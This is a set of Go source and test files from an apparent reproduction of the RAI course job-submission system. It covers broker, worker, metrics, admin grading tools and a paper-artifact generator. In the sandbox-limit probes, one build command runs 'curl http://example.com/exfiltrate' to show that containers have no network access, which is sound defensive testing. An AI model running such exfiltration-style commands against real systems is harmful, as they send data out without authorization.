	doc, err := db.FindOne(core.CollJobs, docstore.M{"job_id": res.JobID})
	if err != nil || doc["worker"] != "daemon-worker" {
		t.Fatalf("job doc = %v, %v", doc, err)
	}

	close(quit)
	select {
	case code := <-done:
		if code != 0 {
			t.Fatalf("exit = %d: %s", code, errb.String())
		}
	case <-time.After(10 * time.Second):
		t.Fatal("worker did not stop")
	}
	if !strings.Contains(out.String(), "handled 1 jobs") {
		t.Errorf("shutdown summary: %q", out.String())
	}
}

func TestWorkerRequiresKeys(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run(nil, &out, &errb, nil, nil); code != 2 {
		t.Fatalf("exit = %d", code)
	}
	if code := run([]string{"-keys", "/nope.json"}, &out, &errb, nil, nil); code != 1 {
		t.Fatalf("missing keys file exit = %d", code)
	}
}
