package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/docstore"
	"rai/internal/objstore"
)

var metricsLine = regexp.MustCompile(`metrics on (http://[^/\s]+/metrics)`)

func TestMetricsAddrExposesWorkerTelemetry(t *testing.T) {
	b := broker.New()
	brokerSrv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { brokerSrv.Close(); b.Close() }()
	fsLn, _ := net.Listen("tcp", "127.0.0.1:0")
	fsSrv := &http.Server{Handler: objstore.Handler(objstore.New(), nil)}
	go fsSrv.Serve(fsLn)
	defer fsSrv.Close()
	dbLn, _ := net.Listen("tcp", "127.0.0.1:0")
	dbSrv := &http.Server{Handler: docstore.Handler(docstore.New(), nil)}
	go dbSrv.Serve(dbLn)
	defer dbSrv.Close()

	creds := auth.NewCredentials("metrics-team")
	keysPath := filepath.Join(t.TempDir(), "keys.json")
	blob, _ := json.Marshal([]auth.Credentials{creds})
	os.WriteFile(keysPath, blob, 0o600)

	ready := make(chan struct{})
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() {
		done <- run([]string{
			"-broker", brokerSrv.Addr(),
			"-fs", "http://" + fsLn.Addr().String(),
			"-db", "http://" + dbLn.Addr().String(),
			"-keys", keysPath,
			"-full-images", "12",
			"-metrics-addr", "127.0.0.1:0",
		}, &out, &errb, ready, quit)
	}()
	defer func() {
		close(quit)
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Error("worker did not stop")
		}
	}()
	select {
	case <-ready:
	case <-time.After(10 * time.Second):
		t.Fatalf("worker never ready: %s", errb.String())
	}

	m := metricsLine.FindStringSubmatch(out.String())
	if m == nil {
		t.Fatalf("no metrics address announced:\n%s", out.String())
	}
	// The worker registers its instruments when Run starts; poll briefly.
	deadline := time.Now().Add(5 * time.Second)
	var body string
	for time.Now().Before(deadline) {
		resp, err := http.Get(m[1])
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		body = string(raw)
		if strings.Contains(body, "rai_worker_jobs_in_flight") {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	for _, want := range []string{
		"rai_worker_jobs_in_flight 0",
		"# TYPE rai_queue_delay_seconds histogram",
		`rai_worker_jobs_total{status="succeeded"} 0`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("metrics missing %q:\n%s", want, body)
		}
	}
}
