package main

import (
	"bytes"
	"strings"
	"testing"
)

func runSim(t *testing.T, args ...string) string {
	t.Helper()
	var out, errb bytes.Buffer
	if code := run(args, &out, &errb); code != 0 {
		t.Fatalf("raisim %v exited %d: %s", args, code, errb.String())
	}
	return out.String()
}

func TestRaisimArtifacts(t *testing.T) {
	cases := map[string][]string{
		"table1":   {"Table I", "RAI", "Testing Uniformity"},
		"figure1":  {"Figure 1", "rai/tasks", "Correctness: 1.0000", "database"},
		"listing1": {"Listing 1", "cmake /src", "nvprof", "webgpu/rai:root"},
		"listing2": {"Listing 2", "submission_code", "/usr/bin/time", "testfull.hdf5"},
		"listing3": {"Listing 3", "RAI_ACCESS_KEY", ".rai.profile", "Hello FirstName LastName"},
		"figure3":  {"Figure 3", "Linux", "OSX/Darwin", "Windows", "devel"},
		"limits":   {"rate limit", "memory", "lifetime", "network"},
	}
	for name, wants := range cases {
		t.Run(name, func(t *testing.T) {
			out := runSim(t, name)
			for _, w := range wants {
				if !strings.Contains(out, w) {
					t.Errorf("%s output missing %q:\n%s", name, w, out)
				}
			}
		})
	}
}

func TestRaisimCourseArtifacts(t *testing.T) {
	if testing.Short() {
		t.Skip("course generation takes ~100ms each")
	}
	out := runSim(t, "figure2")
	for _, w := range []string{"Figure 2", "fastest", "slowest", "#"} {
		if !strings.Contains(out, w) {
			t.Errorf("figure2 missing %q:\n%s", w, out)
		}
	}
	out = runSim(t, "figure4")
	if !strings.Contains(out, "Figure 4") || !strings.Contains(out, "total:") {
		t.Errorf("figure4:\n%s", out)
	}
	out = runSim(t, "stats")
	for _, w := range []string{"176", "58", "GB"} {
		if !strings.Contains(out, w) {
			t.Errorf("stats missing %q:\n%s", w, out)
		}
	}
	out = runSim(t, "baseline")
	if !strings.Contains(out, "fixed-4") || !strings.Contains(out, "elastic-4..30") {
		t.Errorf("baseline:\n%s", out)
	}
	out = runSim(t, "scaling")
	if !strings.Contains(out, "g2.2xlarge") || !strings.Contains(out, "benchmarking") {
		t.Errorf("scaling:\n%s", out)
	}
}

func TestRaisimBadArgs(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run(nil, &out, &errb); code == 0 {
		t.Error("no args accepted")
	}
	if code := run([]string{"figure99"}, &out, &errb); code == 0 {
		t.Error("unknown artifact accepted")
	}
}
