// Command raisim regenerates every table and figure of the paper from
// the reproduction: Table I, the Figure 1 architecture trace, Listings
// 1–3, the Figure 2 runtime histogram, the Figure 3 download matrix, the
// Figure 4 submission timeline, the §VII aggregate statistics and
// resource-usage phases, the fixed-vs-elastic provisioning baseline, and
// the §V container-limit probes.
//
// Usage:
//
//	raisim [-seed 408] table1|figure1|figure2|figure3|figure4|
//	       listing1|listing2|listing3|stats|scaling|baseline|limits|all
package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	"rai/internal/auth"
	"rai/internal/build"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/release"
	"rai/internal/sandbox"
	"rai/internal/scaling"
	"rai/internal/sim"
	"rai/internal/workload"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

var artifacts = []string{
	"table1", "figure1", "listing1", "listing2", "listing3",
	"figure2", "figure3", "figure4", "stats", "scaling", "baseline", "limits",
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raisim", flag.ContinueOnError)
	fs.SetOutput(stderr)
	seed := fs.Uint64("seed", 408, "course generation seed")
	outDir := fs.String("o", "", "also write each artifact to <dir>/<name>.txt")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fmt.Fprintf(stderr, "usage: raisim [-seed N] %s|all\n", strings.Join(artifacts, "|"))
		return 2
	}
	want := fs.Arg(0)
	todo := []string{want}
	if want == "all" {
		todo = artifacts
	}
	cfg := workload.Fall2016()
	cfg.Seed = *seed
	var course *workload.Course // built lazily: several artifacts share it
	getCourse := func() *workload.Course {
		if course == nil {
			course = workload.Generate(cfg)
		}
		return course
	}
	if *outDir != "" {
		if err := os.MkdirAll(*outDir, 0o755); err != nil {
			fmt.Fprintf(stderr, "raisim: %v\n", err)
			return 1
		}
	}
	for i, name := range todo {
		if i > 0 {
			fmt.Fprintln(stdout)
		}
		text, err := render(name, getCourse)
		if err != nil {
			fmt.Fprintf(stderr, "raisim %s: %v\n", name, err)
			return 1
		}
		fmt.Fprint(stdout, text)
		if *outDir != "" {
			path := filepath.Join(*outDir, name+".txt")
			if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
				fmt.Fprintf(stderr, "raisim: writing %s: %v\n", path, err)
				return 1
			}
		}
	}
	return 0
}

func render(name string, getCourse func() *workload.Course) (string, error) {
	switch name {
	case "table1":
		return "Table I — existing programming and submission systems\n" + sim.FormatTable1(), nil
	case "figure1":
		return figure1Trace()
	case "listing1":
		blob, err := build.Default().Encode()
		if err != nil {
			return "", err
		}
		return "Listing 1 — default rai-build.yml (used when the student has none)\n\n" + string(blob), nil
	case "listing2":
		blob, err := build.Submission().Encode()
		if err != nil {
			return "", err
		}
		return "Listing 2 — enforced final-submission build file\n\n" + string(blob), nil
	case "listing3":
		return listing3Email()
	case "figure2":
		res, err := sim.Figure2(getCourse())
		if err != nil {
			return "", err
		}
		return res.Text, nil
	case "figure3":
		return figure3Table()
	case "figure4":
		return sim.Figure4(getCourse()).Text, nil
	case "stats":
		s, err := sim.Stats(getCourse())
		if err != nil {
			return "", err
		}
		return s.Text, nil
	case "scaling":
		_, text, err := sim.ResourceUsagePhases(getCourse())
		if err != nil {
			return "", err
		}
		return "§VII resource-usage phases\n" + text, nil
	case "baseline":
		course := getCourse()
		from := course.Cfg.Deadline.Add(-14 * 24 * time.Hour)
		to := course.Cfg.Deadline.Add(time.Hour)
		_, text, err := sim.ComparePolicies(course, from, to, []scaling.Policy{
			scaling.FixedPolicy{N: 4},
			scaling.FixedPolicy{N: 10},
			scaling.FixedPolicy{N: 30},
			scaling.ElasticPolicy{Min: 4, Max: 30, SlotsPerInstance: 1},
		})
		if err != nil {
			return "", err
		}
		return "Deadline-burst queueing: fixed cluster vs elastic RAI (final two weeks)\n" + text, nil
	case "limits":
		return limitProbes()
	default:
		return "", fmt.Errorf("unknown artifact %q", name)
	}
}

// figure1Trace runs one job through the full in-process deployment and
// narrates the component interactions of the paper's Figure 1.
func figure1Trace() (string, error) {
	var b strings.Builder
	b.WriteString("Figure 1 — system architecture trace (one job end to end)\n\n")
	d, err := sim.NewDeployment(sim.DeployConfig{})
	if err != nil {
		return "", err
	}
	defer d.Close()
	var term bytes.Buffer
	c, err := d.NewClient("demo-team", &term)
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "client     : credentials issued for %s\n", c.Creds.UserName)
	res, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: d.Clock.Now().Add(time.Minute), Team: "demo-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Tuning: 1, Team: "demo-team"},
	})
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "client     : project archive uploaded to file server (%s bucket)\n", core.BucketUploads)
	fmt.Fprintf(&b, "broker     : job published on %s/%s; worker accepted it\n", core.TasksTopic, core.TasksChannel)
	fmt.Fprintf(&b, "worker     : container executed the build; output streamed on %s\n", core.LogTopic(res.JobID))
	fmt.Fprintf(&b, "file server: /build archived at %s/%s\n", res.BuildBucket, res.BuildKey)
	fmt.Fprintf(&b, "database   : job %s recorded with status %s\n", res.JobID, res.Status)
	fmt.Fprintf(&b, "\nstreamed terminal output (%d lines):\n", res.LogLines)
	for _, line := range strings.Split(strings.TrimRight(term.String(), "\n"), "\n") {
		fmt.Fprintf(&b, "  | %s\n", line)
	}
	return b.String(), nil
}

// listing3Email renders the authorization email for a sample student.
func listing3Email() (string, error) {
	reg := auth.NewRegistry()
	outbox := &auth.Outbox{}
	mailer := &auth.KeyMailer{Registry: reg, Outbox: outbox}
	if _, err := mailer.Run([]auth.Student{{FirstName: "FirstName", LastName: "LastName", UserID: "myusername"}}); err != nil {
		return "", err
	}
	m := outbox.Messages()[0]
	return fmt.Sprintf("Listing 3 — authorization email\n\nTo: %s\nSubject: %s\n\n%s", m.To, m.Subject, m.Body), nil
}

// figure3Table builds both branches through the CI model and renders the
// download matrix.
func figure3Table() (string, error) {
	store := objstore.New()
	ci := release.NewCI("rai-client", "https://files.rai-project.com", ciUploader{store})
	ci.Now = func() time.Time { return time.Date(2016, 11, 20, 6, 0, 0, 0, time.UTC) }
	if _, err := ci.Push(release.BranchStable, "4f2a91c", "0.2.1"); err != nil {
		return "", err
	}
	if _, err := ci.Push(release.BranchDevel, "8c17d2e", "0.3.0-dev"); err != nil {
		return "", err
	}
	return "Figure 3 — client download matrix (continuous builds of master and devel)\n\n" +
		release.FormatTable(ci.Table()), nil
}

type ciUploader struct{ s *objstore.Store }

func (u ciUploader) Put(bucket, key string, data []byte, ttl time.Duration) error {
	_, err := u.s.Put(bucket, key, data, ttl)
	return err
}

// limitProbes demonstrates the §V container limits end to end.
func limitProbes() (string, error) {
	var b strings.Builder
	b.WriteString("§V container limits — enforcement probes\n\n")
	d, err := sim.NewDeployment(sim.DeployConfig{})
	if err != nil {
		return "", err
	}
	defer d.Close()

	// Probe 1: the 30 s rate limit.
	c, err := d.NewClient("probe-team", io.Discard)
	if err != nil {
		return "", err
	}
	at := d.Clock.Now().Add(time.Minute)
	first, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: at, Team: "probe-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplTiled, Team: "probe-team"},
	})
	if err != nil {
		return "", err
	}
	_, err = d.RunSubmission(context.Background(), c, workload.Submission{
		Time: at.Add(5 * time.Second), Team: "probe-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplTiled, Team: "probe-team"},
	})
	rateLimited := errors.Is(err, core.ErrRejected)
	fmt.Fprintf(&b, "rate limit  : first job %s; resubmit after 5s rejected=%v (30s spacing enforced)\n", first.Status, rateLimited)

	// Probe 2: memory limit (oom kernel).
	oom, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: at.Add(2 * time.Minute), Team: "probe-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Bug: "oom", Team: "probe-team"},
	})
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "memory      : 64 GiB allocation against the %d GiB cap -> job %s\n", sandbox.DefaultMemoryBytes>>30, oom.Status)

	// Probe 3: lifetime limit (hanging kernel).
	hang, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: at.Add(4 * time.Minute), Team: "probe-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Bug: "hang", Team: "probe-team"},
	})
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "lifetime    : non-terminating kernel reaped at the %v cap -> job %s (charged %0.fs)\n",
		sandbox.DefaultLifetime, hang.Status, hang.Elapsed.Seconds())

	// Probe 4: network isolation.
	netSpec := &build.Spec{RAI: build.Section{
		Version: "0.1", Image: "webgpu/rai:root",
		Commands: build.Commands{Build: []string{"curl http://example.com/exfiltrate"}},
	}}
	d.Clock.Advance(2 * time.Minute)
	fsmem := projectArchive(project.Spec{Impl: cnn.ImplTiled, Team: "probe-team"})
	netRes, err := submitRaw(d, c, netSpec, fsmem)
	if err != nil {
		return "", err
	}
	fmt.Fprintf(&b, "network     : curl inside the container -> job %s (no network access)\n", netRes.Status)
	return b.String(), nil
}

func projectArchive(spec project.Spec) []byte {
	fsmem, _ := sim.PackProject(spec)
	return fsmem
}

func submitRaw(d *sim.Deployment, c *core.Client, spec *build.Spec, archive []byte) (*core.JobResult, error) {
	type out struct {
		res *core.JobResult
		err error
	}
	ctx := context.Background()
	done := make(chan out, 1)
	go func() {
		res, err := c.SubmitContext(ctx, core.KindRun, spec, archive)
		done <- out{res, err}
	}()
	if _, err := d.Workers()[0].HandleOne(ctx, 10*time.Second); err != nil {
		return nil, err
	}
	o := <-done
	return o.res, o.err
}
