package main

import (
	"bytes"
	"net/http/httptest"
	"strings"
	"testing"

	"rai/internal/telemetry"
)

func metricsEndpoint(t *testing.T) *httptest.Server {
	t.Helper()
	reg := telemetry.NewRegistry()
	reg.Counter("rai_broker_publish_total", "messages published", telemetry.L("topic", "rai")).Add(41)
	reg.Gauge("rai_worker_jobs_in_flight", "jobs executing").Set(3)
	reg.Histogram("rai_queue_delay_seconds", "queue delay", telemetry.QueueDelayBuckets).Observe(2.5)
	srv := httptest.NewServer(reg.Handler())
	t.Cleanup(srv.Close)
	return srv
}

func TestTopRendersScrapedMetrics(t *testing.T) {
	srv := metricsEndpoint(t)
	var out, errb bytes.Buffer
	if code := run([]string{"top", srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("exit = %d: %s", code, errb.String())
	}
	got := out.String()
	for _, want := range []string{
		"endpoint", "metric", "labels", "value", // header
		"rai_broker_publish_total", "topic=rai", "41",
		"rai_worker_jobs_in_flight", "3",
		"rai_queue_delay_seconds_count", "1",
		"rai_queue_delay_seconds_sum", "2.5",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("top output missing %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "_bucket") {
		t.Errorf("bucket series shown without -buckets:\n%s", got)
	}
}

func TestTopFilterAndBuckets(t *testing.T) {
	srv := metricsEndpoint(t)
	var out, errb bytes.Buffer
	if code := run([]string{"top", "-filter", "rai_queue", "-buckets", srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("exit = %d: %s", code, errb.String())
	}
	got := out.String()
	if strings.Contains(got, "rai_broker_publish_total") {
		t.Errorf("filter leaked other families:\n%s", got)
	}
	if !strings.Contains(got, "rai_queue_delay_seconds_bucket") {
		t.Errorf("-buckets did not include bucket series:\n%s", got)
	}
	if !strings.Contains(got, "le=+Inf") {
		t.Errorf("missing +Inf bucket:\n%s", got)
	}
}

func TestTopBadInvocations(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"top"}, &out, &errb); code != 2 {
		t.Fatalf("no URLs: exit = %d", code)
	}
	if code := run([]string{"top", "http://127.0.0.1:1/metrics"}, &out, &errb); code != 1 {
		t.Fatalf("unreachable endpoint: exit = %d", code)
	}
}
