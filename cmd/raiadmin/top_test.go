package main

import (
	"bytes"
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"

	"rai/internal/telemetry"
)

func metricsEndpoint(t *testing.T) *httptest.Server {
	t.Helper()
	reg := telemetry.NewRegistry()
	reg.Counter("rai_broker_publish_total", "messages published", telemetry.L("topic", "rai")).Add(41)
	reg.Gauge("rai_worker_jobs_in_flight", "jobs executing").Set(3)
	reg.Histogram("rai_queue_delay_seconds", "queue delay", telemetry.QueueDelayBuckets).Observe(2.5)
	srv := httptest.NewServer(reg.Handler())
	t.Cleanup(srv.Close)
	return srv
}

func TestTopRendersScrapedMetrics(t *testing.T) {
	srv := metricsEndpoint(t)
	var out, errb bytes.Buffer
	if code := run([]string{"top", srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("exit = %d: %s", code, errb.String())
	}
	got := out.String()
	for _, want := range []string{
		"endpoint", "metric", "labels", "value", // header
		"rai_broker_publish_total", "topic=rai", "41",
		"rai_worker_jobs_in_flight", "3",
		"rai_queue_delay_seconds_count", "1",
		"rai_queue_delay_seconds_sum", "2.5",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("top output missing %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "_bucket") {
		t.Errorf("bucket series shown without -buckets:\n%s", got)
	}
}

func TestTopFilterAndBuckets(t *testing.T) {
	srv := metricsEndpoint(t)
	var out, errb bytes.Buffer
	if code := run([]string{"top", "-filter", "rai_queue", "-buckets", srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("exit = %d: %s", code, errb.String())
	}
	got := out.String()
	if strings.Contains(got, "rai_broker_publish_total") {
		t.Errorf("filter leaked other families:\n%s", got)
	}
	if !strings.Contains(got, "rai_queue_delay_seconds_bucket") {
		t.Errorf("-buckets did not include bucket series:\n%s", got)
	}
	if !strings.Contains(got, "le=+Inf") {
		t.Errorf("missing +Inf bucket:\n%s", got)
	}
}

// TestTopJSON checks -json output: one element per URL in argument
// order, with parsed samples scripts can consume directly.
func TestTopJSON(t *testing.T) {
	srv := metricsEndpoint(t)
	var out, errb bytes.Buffer
	if code := run([]string{"top", "-json", srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("exit = %d: %s", code, errb.String())
	}
	var report []struct {
		Endpoint string `json:"endpoint"`
		Samples  []struct {
			Name   string            `json:"name"`
			Labels map[string]string `json:"labels"`
			Value  float64           `json:"value"`
		} `json:"samples"`
	}
	if err := json.Unmarshal(out.Bytes(), &report); err != nil {
		t.Fatalf("output is not JSON: %v\n%s", err, out.String())
	}
	if len(report) != 1 {
		t.Fatalf("report has %d endpoints, want 1", len(report))
	}
	if !strings.Contains(srv.URL, report[0].Endpoint) {
		t.Errorf("endpoint %q not derived from %q", report[0].Endpoint, srv.URL)
	}
	found := map[string]float64{}
	for _, s := range report[0].Samples {
		found[s.Name] = s.Value
		if s.Name == "rai_broker_publish_total" && s.Labels["topic"] != "rai" {
			t.Errorf("publish counter labels = %v", s.Labels)
		}
		if strings.HasSuffix(s.Name, "_bucket") {
			t.Errorf("bucket series in JSON without -buckets: %s", s.Name)
		}
	}
	if found["rai_broker_publish_total"] != 41 {
		t.Errorf("publish counter = %v, want 41", found["rai_broker_publish_total"])
	}
	if found["rai_worker_jobs_in_flight"] != 3 {
		t.Errorf("gauge = %v, want 3", found["rai_worker_jobs_in_flight"])
	}
}

func TestTopBadInvocations(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"top"}, &out, &errb); code != 2 {
		t.Fatalf("no URLs: exit = %d", code)
	}
	if code := run([]string{"top", "http://127.0.0.1:1/metrics"}, &out, &errb); code != 1 {
		t.Fatalf("unreachable endpoint: exit = %d", code)
	}
}
