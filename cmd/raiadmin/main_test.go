package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/registry"
	"rai/internal/sim"
	"rai/internal/vfs"
)

func TestKeygen(t *testing.T) {
	dir := t.TempDir()
	rosterPath := filepath.Join(dir, "roster.csv")
	os.WriteFile(rosterPath, []byte("firstname,lastname,userid\nAda,Lovelace,alove\nGrace,Hopper,ghopp\n"), 0o644)
	keysPath := filepath.Join(dir, "keys.json")
	outbox := filepath.Join(dir, "outbox")

	var out, errb bytes.Buffer
	code := run([]string{"keygen", "-roster", rosterPath, "-out", keysPath, "-outbox", outbox}, &out, &errb)
	if code != 0 {
		t.Fatalf("keygen exited %d: %s", code, errb.String())
	}
	blob, err := os.ReadFile(keysPath)
	if err != nil {
		t.Fatal(err)
	}
	var creds []auth.Credentials
	if err := json.Unmarshal(blob, &creds); err != nil {
		t.Fatal(err)
	}
	if len(creds) != 2 || creds[0].UserName != "alove" {
		t.Fatalf("creds = %+v", creds)
	}
	emails, err := os.ReadDir(outbox)
	if err != nil || len(emails) != 2 {
		t.Fatalf("outbox = %v, %v", emails, err)
	}
	content, _ := os.ReadFile(filepath.Join(outbox, emails[0].Name()))
	if !strings.Contains(string(content), "RAI_SECRET_KEY=") {
		t.Errorf("email missing keys:\n%s", content)
	}
}

func TestKeygenMissingRoster(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"keygen"}, &out, &errb); code == 0 {
		t.Fatal("keygen without roster succeeded")
	}
	if code := run([]string{"keygen", "-roster", "/nope.csv"}, &out, &errb); code == 0 {
		t.Fatal("keygen with missing roster file succeeded")
	}
}

func TestTeamgen(t *testing.T) {
	dir := t.TempDir()
	teamsPath := filepath.Join(dir, "teams.csv")
	os.WriteFile(teamsPath, []byte("team,members\nteam01,alove;ghopp\nteam02,aturing\n"), 0o644)
	keysPath := filepath.Join(dir, "teamkeys.json")
	var out, errb bytes.Buffer
	if code := run([]string{"teamgen", "-teams", teamsPath, "-out", keysPath}, &out, &errb); code != 0 {
		t.Fatalf("teamgen exited %d: %s", code, errb.String())
	}
	blob, _ := os.ReadFile(keysPath)
	var creds []auth.Credentials
	if err := json.Unmarshal(blob, &creds); err != nil {
		t.Fatal(err)
	}
	if len(creds) != 2 || creds[0].UserName != "team01" || creds[1].UserName != "team02" {
		t.Fatalf("creds = %+v", creds)
	}
	if code := run([]string{"teamgen"}, &out, &errb); code == 0 {
		t.Error("teamgen without -teams succeeded")
	}
}

func TestUnknownCommand(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"nonsense"}, &out, &errb); code == 0 {
		t.Fatal("unknown command accepted")
	}
	if code := run(nil, &out, &errb); code == 0 {
		t.Fatal("empty args accepted")
	}
}

// adminServices brings up the distributed stack with two graded teams.
func adminServices(t *testing.T) (brokerAddr, fsURL, dbURL, keysPath string) {
	t.Helper()
	b := broker.New()
	brokerSrv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { brokerSrv.Close(); b.Close() })

	store := objstore.New()
	fsLn, _ := net.Listen("tcp", "127.0.0.1:0")
	fsSrv := &http.Server{Handler: objstore.Handler(store, nil)}
	go fsSrv.Serve(fsLn)
	t.Cleanup(func() { fsSrv.Close() })

	db := docstore.New()
	dbLn, _ := net.Listen("tcp", "127.0.0.1:0")
	dbSrv := &http.Server{Handler: docstore.Handler(db, nil)}
	go dbSrv.Serve(dbLn)
	t.Cleanup(func() { dbSrv.Close() })

	reg := auth.NewRegistry()
	var creds []auth.Credentials
	for _, team := range []string{"team-fast", "team-slow"} {
		c, err := reg.Issue(team)
		if err != nil {
			t.Fatal(err)
		}
		creds = append(creds, c)
	}
	keysPath = filepath.Join(t.TempDir(), "keys.json")
	blob, _ := json.Marshal(creds)
	os.WriteFile(keysPath, blob, 0o600)

	dataFS := vfs.New()
	nw := cnn.NewNetwork(408)
	model, _ := nw.SaveModel()
	dataFS.WriteFile("/data/model.hdf5", model)
	ds, _ := cnn.SynthesizeDataset(nw, 409, 10)
	b1, _ := ds.Encode()
	dataFS.WriteFile("/data/test10.hdf5", b1)
	full, _ := cnn.SynthesizeDataset(nw, 410, 15)
	b2, _ := full.Encode()
	dataFS.WriteFile("/data/testfull.hdf5", b2)

	fsURL = "http://" + fsLn.Addr().String()
	dbURL = "http://" + dbLn.Addr().String()
	queue, err := core.NewRemoteQueue(context.Background(), brokerSrv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { queue.Close() })
	w := &core.Worker{
		Cfg:      core.WorkerConfig{ID: "admin-test-worker", MaxConcurrent: 2, RateLimit: time.Nanosecond},
		Queue:    queue,
		Objects:  objstore.NewClient(fsURL),
		DB:       docstore.NewClient(dbURL),
		Auth:     reg,
		Images:   registry.NewCourseRegistry(),
		DataFS:   dataFS,
		DataPath: "/data",
	}
	go w.RunContext(context.Background())
	t.Cleanup(w.Stop)

	// Two final submissions through the real client path.
	specs := map[string]project.Spec{
		"team-fast": {Impl: cnn.ImplParallel, Tuning: 1.0},
		"team-slow": {Impl: cnn.ImplTiled, Tuning: 1.5},
	}
	for _, c := range creds {
		spec := specs[c.UserName]
		spec.Team, spec.WithUsage, spec.WithReport = c.UserName, true, true
		archive, err := sim.PackProject(spec)
		if err != nil {
			t.Fatal(err)
		}
		clientQueue, err := core.NewRemoteQueue(context.Background(), brokerSrv.Addr())
		if err != nil {
			t.Fatal(err)
		}
		client := &core.Client{
			Creds: c, Queue: clientQueue,
			Objects: objstore.NewClient(fsURL),
			LogWait: time.Minute,
		}
		res, err := client.SubmitContext(context.Background(), core.KindSubmit, nil, archive)
		clientQueue.Close()
		if err != nil || res.Status != core.StatusSucceeded {
			t.Fatalf("seeding submission for %s: %v %+v", c.UserName, err, res)
		}
	}
	return brokerSrv.Addr(), fsURL, dbURL, keysPath
}

func TestRankingDownloadRerunGrade(t *testing.T) {
	brokerAddr, fsURL, dbURL, keysPath := adminServices(t)

	// ranking -hist
	var out, errb bytes.Buffer
	if code := run([]string{"ranking", "-db", dbURL, "-hist"}, &out, &errb); code != 0 {
		t.Fatalf("ranking exited %d: %s", code, errb.String())
	}
	if !strings.Contains(out.String(), "team-fast") || !strings.Contains(out.String(), "Runtime bin") {
		t.Errorf("ranking output:\n%s", out.String())
	}

	// download -cleanup
	outDir := filepath.Join(t.TempDir(), "subs")
	out.Reset()
	if code := run([]string{"download", "-db", dbURL, "-fs", fsURL, "-out", outDir, "-cleanup"}, &out, &errb); code != 0 {
		t.Fatalf("download exited %d: %s", code, errb.String())
	}
	if _, err := os.Stat(filepath.Join(outDir, "team-fast", "submission_code", "CMakeLists.txt")); err != nil {
		t.Errorf("downloaded submission missing: %v", err)
	}
	if _, err := os.Stat(filepath.Join(outDir, "team-fast", "Makefile")); !os.IsNotExist(err) {
		t.Error("cleanup left the Makefile")
	}

	// rerun
	out.Reset()
	if code := run([]string{"rerun", "-db", dbURL, "-fs", fsURL, "-broker", brokerAddr, "-keys", keysPath, "-team", "team-fast", "-n", "2"}, &out, &errb); code != 0 {
		t.Fatalf("rerun exited %d: %s", code, errb.String())
	}
	if !strings.Contains(out.String(), "best") || !strings.Contains(out.String(), "2 runs") {
		t.Errorf("rerun output:\n%s", out.String())
	}

	// grade with manual scores
	manualPath := filepath.Join(t.TempDir(), "manual.csv")
	os.WriteFile(manualPath, []byte("team,code_quality,report\nteam-fast,95,90\nteam-slow,80,85\n"), 0o644)
	out.Reset()
	if code := run([]string{"grade", "-db", dbURL, "-manual", manualPath}, &out, &errb); code != 0 {
		t.Fatalf("grade exited %d: %s", code, errb.String())
	}
	for _, want := range []string{"Grade report — team-fast", "Grade report — team-slow", "TOTAL"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("grade output missing %q:\n%s", want, out.String())
		}
	}
}

func TestRerunUnknownTeam(t *testing.T) {
